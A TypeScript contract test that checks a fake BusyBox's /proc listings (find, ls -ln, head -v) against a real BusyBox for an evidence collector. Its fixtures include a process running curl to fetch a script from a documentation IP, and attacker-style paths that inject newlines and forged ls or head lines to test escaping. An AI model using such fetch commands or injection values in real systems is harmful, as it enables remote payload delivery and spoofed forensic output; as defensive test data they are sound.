// Contract: the fake's BusyBox (test/support/fake-kube/proc.ts) against a real BusyBox, on the
// same /proc-shaped tree. The real one is Debian's busybox-static (1.35; the collector image
// is 1.37, whose find.c, ls.c and head.c differ from 1.35 only in -ok, `ls -sh` and user-name
// widths, none of which the collector uses; recursive_action.c and printable_string.c are
// unchanged), fetched by scripts/prepare-busybox.ts; without it this test fails, naming the
// command. The tree is built from the fake's own process model (file contents as the fake
// prints them), so what is compared is the commands: which files find names (depth 2 only,
// symlinks such as self not entered), the argument order and batching handed to ls and head,
// ls -ln's lines, arrows, escaping of control characters, directory headers, "total", blank
// lines, head -v's headers and the newline rule, error messages and exit codes.
// Normalised: the fields ls prints before a name (a tree's symlinks have another mode, size,
// owner and date than /proc's), and the order find visits a plain directory (readdir order
// of the tree's filesystem; /proc's is by pid, as the fake's): head's output is compared per
// file. Not reproducible in a tree (a root-owned tmpfs link always reads): a link readlink
// refuses; the fake's form of it is checked against output captured from a real /proc here.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { splitHeadOutput } from '../../shared/evidence/proc-parse.js';
import { sweepCommand } from '../../shared/evidence/proc-reads.js';
import { requireBusybox } from '../support/busybox-cache.js';
import { DebugProc } from '../support/fake-kube/proc.js';
import type { FakeContainerSpec, FakeProcess } from '../support/fake-kube/types.js';

const CURL = '/usr/bin/curl';
const PROCS: FakeProcess[] = [
  { pid: 1, exe: '/usr/local/bin/checkout', cmdline: ['/usr/local/bin/checkout', '--port=8080'], fds: { 4: 'socket:[900]', 0: '/dev/null', 10: 'pipe:[7]' } },
  { pid: 7, ppid: 1, exe: CURL, cmdline: [CURL, '-s', 'http://203.0.113.50/x.sh'], fds: { 3: 'socket:[4711]' } },
  // Attacker-chosen: a newline and a fake ls line in the path, " -> " and non-ASCII, a cmdline with a head header.
  { pid: 20, ppid: 1, exe: `/tmp/x\nlrwxrwxrwx    1 0 0 0 Dec  1 21:00 /proc/1/exe -> ${CURL}`, cmdline: ['/tmp/x', '\n==> /proc/1/cmdline <==\nfake\0'], fds: { 5: '/tmp/a -> b\tc' } },
  { pid: 100, ppid: 1, exe: '/opt/app é/bin', cmdline: [] },
];
/** Processes the fake adds itself (the collector's own sleep). */
const DEBUG_PID = 4194;

let root: string;
let binDir: string;
let busybox: string;
let fake: DebugProc;

async function runFake(argv: string[]): Promise<{ stdout: Buffer; stderr: string; exit: number }> {
  const out: Buffer[] = [];
  let stderr = '';
  const exit = await fake.run(argv, { stdout: (b) => Promise.resolve(void out.push(Buffer.from(b))), stderr: (t) => Promise.resolve(void (stderr += t)) });
  return { stdout: Buffer.concat(out), stderr, exit };
}

/** The real BusyBox over the tree: applets found on PATH (find's -exec looks CMD up there). */
function runReal(argv: string[]): { stdout: Buffer; stderr: string; exit: number } {
  const rooted = argv.map((a) => (a.startsWith('/proc') ? `${root}${a}` : a));
  const r = spawnSync(join(binDir, rooted[0] ?? ''), rooted.slice(1), { env: { PATH: binDir, LC_ALL: 'C.UTF-8' }, maxBuffer: 4 * 1024 * 1024 });
  if (r.error) throw r.error;
  const strip = (b: Buffer): Buffer => Buffer.from(b.toString('latin1').split(root).join(''), 'latin1');
  return { stdout: strip(r.stdout), stderr: strip(r.stderr).toString('utf8'), exit: r.status ?? -1 };
}

/** ls -ln's fields before the name (mode, links, uid, gid, size, date) differ between a tree and /proc. */
const normalLs = (text: string): string => text.replace(/^[-lbcdps]\S{9}\s+\d+\s+\d+\s+\d+\s+\d+\s+\S+\s+\S+\s+\S+\s/gm, '<fields> ');

/** Writes the tree the fake describes: /proc/<pid>/{exe,cmdline,status,stat,fd/N}, task/ at depth 3, self, net, sys. */
async function buildTree(): Promise<void> {
  const proc = join(root, 'proc');
  mkdirSync(join(proc, 'sys', 'kernel'), { recursive: true });
  writeFileSync(join(proc, 'sys', 'kernel', 'exe'), 'not a pid: depth 3');
  symlinkSync(String(DEBUG_PID), join(proc, 'self'));
  symlinkSync(`${DEBUG_PID}/task/${DEBUG_PID}`, join(proc, 'thread-self'));
  symlinkSync('self/net', join(proc, 'net'));
  for (const p of [...PROCS, { pid: DEBUG_PID, exe: '/bin/sleep', fds: {} } as FakeProcess]) {
    const dir = join(proc, String(p.pid));
    mkdirSync(join(dir, 'fd'), { recursive: true });
    mkdirSync(join(dir, 'task', String(p.pid)), { recursive: true });
    symlinkSync(p.exe, join(dir, 'exe'));
    symlinkSync(p.exe, join(dir, 'task', String(p.pid), 'exe'));
    for (const leaf of ['cmdline', 'status', 'stat']) writeFileSync(join(dir, leaf), (await runFake(['cat', `/proc/${p.pid}/${leaf}`])).stdout);
    for (const [n, target] of Object.entries(p.fds ?? {})) symlinkSync(target, join(dir, 'fd', n));
  }
}

before(async () => {
  busybox = requireBusybox();
  root = mkdtempSync(join(tmpdir(), 'busybox-proc-'));
  binDir = join(root, 'bin');
  mkdirSync(binDir);
  for (const applet of ['find', 'ls', 'head', 'cat']) symlinkSync(busybox, join(binDir, applet));
  const target: FakeContainerSpec = { name: 'app', processes: PROCS.map((p) => ({ ...p, exeFile: { content: Buffer.from('x') } })), files: {} };
  for (const p of target.processes ?? []) if (target.files && p.exeFile) target.files[p.exe] = p.exeFile;
  fake = new DebugProc(target, { name: 'dbg', running: true, command: ['sleep', '600'] });
  await buildTree();
});

after(() => {
  if (root) rmSync(root, { recursive: true, force: true });
});

describe('the fake BusyBox against a real one, same tree', () => {
  test('the real binary is BusyBox', () => {
    const r = spawnSync(busybox, [], { encoding: 'utf8' });
    assert.match(r.stdout, /^BusyBox v1\.3\d\.\d/);
  });

  test('find -name exe -exec ls -ln {} +: the same lines (depth 2 only, self not entered, control characters as ?), exit 0', async () => {
    const argv = sweepCommand('exe', ['ls', '-ln']);
    const [real, fk] = [runReal(argv), await runFake(argv)];
    assert.equal(normalLs(fk.stdout.toString('utf8')), normalLs(real.stdout.toString('utf8')));
    assert.match(real.stdout.toString('utf8'), /\/proc\/20\/exe -> \/tmp\/x\?lrwxrwxrwx/, 'the newline printed as ?');
    assert.doesNotMatch(real.stdout.toString('utf8'), /task|self|sys/);
    assert.deepEqual([fk.exit, fk.stderr], [real.exit, real.stderr]);
  });

  test('find -name fd -exec ls -ln {} +: headed directories, total, blank lines, sorted entries', async () => {
    const argv = sweepCommand('fd', ['ls', '-ln']);
    const [real, fk] = [runReal(argv), await runFake(argv)];
    assert.equal(normalLs(fk.stdout.toString('utf8')), normalLs(real.stdout.toString('utf8')));
    assert.deepEqual([fk.exit, fk.stderr], [real.exit, real.stderr]);
  });

  for (const leaf of ['cmdline', 'status', 'stat'] as const) {
    test(`find -name ${leaf} -exec head -v -c N {} +: the same files and bytes, headers as head prints them`, async () => {
      const argv = sweepCommand(leaf, ['head', '-v', '-c', '40']);
      const [real, fk] = [runReal(argv), await runFake(argv)];
      for (const r of [real, fk]) {
        const text = r.stdout.toString('latin1');
        assert.ok(text.startsWith('==> '), 'the first header has no newline before it');
        // One file per process (the collector's sleep too) and, in cmdlines, pid 20's own header.
        assert.equal(text.split('\n==> ').length, PROCS.length + 1 + (leaf === 'cmdline' ? 1 : 0), 'every later one has one before it');
      }
      const files = (b: Buffer): [string, string][] => [...splitHeadOutput(b).files].map(([f, v]): [string, string] => [f, v.toString('latin1')]).sort();
      assert.deepEqual(files(fk.stdout), files(real.stdout));
      assert.deepEqual([fk.exit, fk.stderr], [real.exit, real.stderr]);
    });
  }

  test('reads by pid: ls -ln of exe links and fd directories (sorted by name, a missing one an error, exit 1)', async () => {
    for (const argv of [
      ['ls', '-ln', '/proc/7/exe', '/proc/100/exe', '/proc/1/exe', '/proc/999/exe'],
      ['ls', '-ln', '/proc/7/fd', '/proc/1/fd'],
      ['ls', '-ln', '/proc/7/fd'],
      ['ls', '-ln', '/proc/20/exe', '/proc/7/fd', '/proc/1/fd'],
      ['ls', '/proc'],
    ]) {
      const [real, fk] = [runReal(argv), await runFake(argv)];
      assert.equal(normalLs(fk.stdout.toString('utf8')), normalLs(real.stdout.toString('utf8')), argv.join(' '));
      assert.deepEqual([fk.exit, fk.stderr], [real.exit, real.stderr], argv.join(' '));
    }
  });

  test('reads by pid: head -v -c with a missing file first and in the middle (the newline rule counts arguments, not files read)', async () => {
    for (const argv of [
      ['head', '-v', '-c', '64', '/proc/999/cmdline', '/proc/1/stat', '/proc/7/cmdline'],
      ['head', '-v', '-c', '64', '/proc/1/status', '/proc/999/status', '/proc/7/status'],
      ['head', '-v', '-c', '64', '/proc/7/cmdline'],
    ]) {
      const [real, fk] = [runReal(argv), await runFake(argv)];
      assert.equal(fk.stdout.toString('latin1'), real.stdout.toString('latin1'), argv.join(' '));
      assert.deepEqual([fk.exit, fk.stderr], [real.exit, real.stderr], argv.join(' '));
    }
  });

  test('negative control: the comparison sees a difference (a tree link changed under the fake)', async () => {
    const argv = sweepCommand('exe', ['ls', '-ln']);
    rmSync(join(root, 'proc', '7', 'exe'));
    symlinkSync('/usr/bin/wget', join(root, 'proc', '7', 'exe'));
    try {
      assert.notEqual(normalLs((await runFake(argv)).stdout.toString('utf8')), normalLs(runReal(argv).stdout.toString('utf8')));
    } finally {
      rmSync(join(root, 'proc', '7', 'exe'));
      symlinkSync(CURL, join(root, 'proc', '7', 'exe'));
    }
  });
});

describe('what a tree cannot show: the fake against output captured from a real /proc (BusyBox 1.35, 2026-12-02)', () => {
  // Captured with: busybox find /proc -mindepth 2 -maxdepth 2 -name exe -exec ls -ln {} +
  // (pid 1 not traceable by the caller; readlink refused): the line without a target on stdout,
  // a warning on stderr, and ls (so find) still exits 0.
  const CAPTURED_LINE = 'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/1/exe';
  const CAPTURED_ERR = 'ls: /proc/1/exe: cannot read link: Permission denied\n';

  test('an exe link readlink refuses', async () => {
    const target: FakeContainerSpec = { name: 'app', uid: 1000, processes: [{ pid: 1, exe: '/app', exeFile: { content: Buffer.from('x') } }] };
    const other = new DebugProc(target, { name: 'dbg', running: true, uid: 0 });
    const out: Buffer[] = [];
    let stderr = '';
    const exit = await other.run(['ls', '-ln', '/proc/1/exe'], { stdout: (b) => Promise.resolve(void out.push(Buffer.from(b))), stderr: (t) => Promise.resolve(void (stderr += t)) });
    assert.equal(normalLs(Buffer.concat(out).toString('utf8')), `${normalLs(CAPTURED_LINE)}\n`);
    assert.deepEqual([exit, stderr], [0, CAPTURED_ERR]);
  });
});
